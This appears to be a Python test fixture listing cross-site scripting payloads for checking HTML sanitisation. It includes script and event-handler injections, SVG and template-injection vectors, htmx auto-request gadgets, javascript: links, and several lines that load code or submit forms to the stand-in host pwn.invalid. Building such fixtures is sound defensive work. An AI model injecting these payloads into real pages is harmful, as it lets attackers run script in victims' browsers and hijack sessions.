"""Words that would run, load, post or mislead if any page took them for markup. All of them speak of `pwn`."""

BIDI = "\u202e\u2066\u200f"
HOST = "pwn.invalid"

SCRIPTS = (
    "<script>__pwn(1)</script>",
    "<script src=//pwn.invalid/a.js></script>",
    "</script><script>__pwn(2)</script>",
    "<ScRiPt>__pwn(3)</sCrIpT>",
    "<scr<script>ipt>__pwn(4)</scr</script>ipt>",
    "<script type=module>import('//pwn.invalid/m.js')</script>",
    "</textarea><script>__pwn(5)</script>",
    "</title></style><script>__pwn(6)</script>",
    "--><script>__pwn(7)</script><!--",
    "<![CDATA[<script>__pwn(8)</script>]]>",
)
HANDLERS = (
    "<img src=x onerror=__pwn(1)>",
    "<img src=x onerror=&#95;&#95;pwn(2)>",
    "<body onload=__pwn(3)>",
    "<svg onload=__pwn(4)>",
    "<details open ontoggle=__pwn(5)>",
    "<input autofocus onfocus=__pwn(6)>",
    "<video><source onerror=__pwn(7)></video>",
    "<marquee onstart=__pwn(8)>",
    "<div style=animation-name:pwn onanimationstart=__pwn(9)>",
    "<a id=pwn tabindex=1 onfocus=__pwn(10)>",
    '" autofocus onfocus=__pwn(11) pwn="',
    "' onmouseover=__pwn(12) pwn='",
    "x onpointerenter=__pwn(13) pwn=y",
    '"><img src=x onerror=__pwn(14)>',
    "'><svg/onload=__pwn(15)>",
)
VECTORS = (
    "<svg><script>__pwn(1)</script></svg>",
    "<svg><animate onbegin=__pwn(2) attributeName=x dur=1s>",
    "<svg><use href='data:image/svg+xml,<svg id=x onload=__pwn(3)>#x'/></svg>",
    "<svg><a xlink:href=javascript:__pwn(4)><text y=20>pwn</text></a></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=__pwn(5)>",
    "<iframe srcdoc='<script>parent.__pwn(6)</script>'></iframe>",
    "<iframe src=javascript:parent.__pwn(7)></iframe>",
    "<object data=//pwn.invalid/o></object>",
    "<embed src=//pwn.invalid/e>",
    "<link rel=stylesheet href=//pwn.invalid/s.css>",
    "<style>@import '//pwn.invalid/i.css'</style>",
    "<base href=//pwn.invalid/>",
    "<meta http-equiv=refresh content='0;url=//pwn.invalid/r'>",
    "<form action=//pwn.invalid/f><button autofocus>pwn</button></form>",
    "<template><img src=x onerror=__pwn(8)></template>",
)
GADGETS = (
    "<div hx-get=/pwn-1 hx-trigger=load>pwn</div>",
    "<div data-hx-post=/pwn-2 data-hx-trigger='load delay:1ms'>pwn</div>",
    "<img hx-get=/pwn-3 hx-trigger=revealed>",
    "<div hx-on:load='__pwn(4)' hx-on::after-process='__pwn(5)'>pwn</div>",
    '" hx-get=/pwn-6 hx-trigger=load pwn="',
    "<div hx-sse:connect=/pwn-7>pwn</div>",
    "<hx-partial hx-target=body hx-swap=innerHTML>pwn</hx-partial>",
    "<button hx-post=/logout hx-trigger=load hx-vals='js:{a:__pwn(8)}'>pwn</button>",
    "<div data-behaviour=pwn composer>pwn</div>",
    "<div hx-ext=pwn hx-boost=true><a href=/pwn-9>pwn</a></div>",
)
LINKS = (
    "javascript:__pwn(1)",
    "JaVaScRiPt:__pwn(2)//https://pwn.invalid",
    "java\tscript:__pwn(3)",
    "data:text/html,<script>__pwn(4)</script>",
    'https://pwn.invalid/"onmouseover="__pwn(5)',
    "https://pwn.invalid/<svg/onload=__pwn(6)>",
    "[pwn](javascript:__pwn(7))",
    "vbscript:__pwn(8)",
)
OTHERS = (
    "{{7*7}}${7*7}#{7*7}<%= 7*7 %> pwn",
    "{% for x in ().__class__.__base__.__subclasses__() %}pwn{% endfor %}",
    "{{constructor.constructor('__pwn(1)')()}}",
    f"pwn{BIDI}gpj.exe",
    "pwn\x00<img src=x onerror=__pwn(2)>\ufeff",
    "&lt;img src=x onerror=__pwn(3)&gt; &amp;#x3C;pwn&amp;#x3E;",
)
HOSTILE = (*SCRIPTS, *HANDLERS, *VECTORS, *GADGETS, *LINKS, *OTHERS)
